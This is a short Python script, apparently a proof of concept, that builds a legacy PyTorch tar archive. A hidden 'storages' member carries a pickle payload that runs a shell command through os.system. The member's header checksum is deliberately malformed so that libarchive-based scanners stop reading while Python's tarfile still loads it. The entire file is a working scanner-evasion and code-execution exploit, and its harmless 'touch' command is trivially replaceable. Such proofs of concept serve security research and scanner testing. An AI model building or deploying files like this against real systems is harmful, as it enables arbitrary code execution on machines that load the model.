"""Legacy torch tar: benign 'tensors' and 'pickle' members first, then 'storages' whose header checksum is
spelled '0o' + octal digits (or '+', '_'): tarfile's nti reads it, libarchive calls the header damaged and stops.
usage: python3 tar_later_chksum.py OUT MARKER [0o|plus|underscore]"""
import sys

def header(name, size, spell=None):
    b = bytearray(512)
    b[0:len(name)] = name
    b[100:108] = b"0000644\0"
    b[108:116] = b"0000000\0"
    b[116:124] = b"0000000\0"
    b[124:136] = b"%011o\0" % size
    b[136:148] = b"00000000000\0"
    b[148:156] = b" " * 8
    b[156:157] = b"0"
    b[257:263] = b"ustar\0"
    b[263:265] = b"00"
    if spell is None:
        b[148:156] = b"%06o\0 " % sum(b)
    else:
        # the field's own bytes count as spaces; the spelled value is the sum
        s = sum(b)
        b[148:156] = {"0o": b"0o%06o" % s, "plus": b"+%06o\0" % s, "underscore": b"%03o_%03o" % (s >> 9, s & 0o777)}[spell][:8].ljust(8, b"\0")
    return bytes(b)

def pad(b):
    return b + b"\0" * (-len(b) % 512)

def main(out, marker, spell="0o"):
    payload = b"cos\nsystem\n(V touch " + marker.encode() + b"\ntR."
    blocks = []
    for name, data in ((b"tensors", b"\x80\x02K\x00."), (b"pickle", b"\x80\x02}q\x00.")):
        blocks += [header(name, len(data)), pad(data)]
    blocks += [header(b"storages", len(payload), spell), pad(payload)]
    blocks.append(b"\0" * 1024)
    open(out, "wb").write(b"".join(blocks))

if __name__ == "__main__":
    main(*sys.argv[1:])
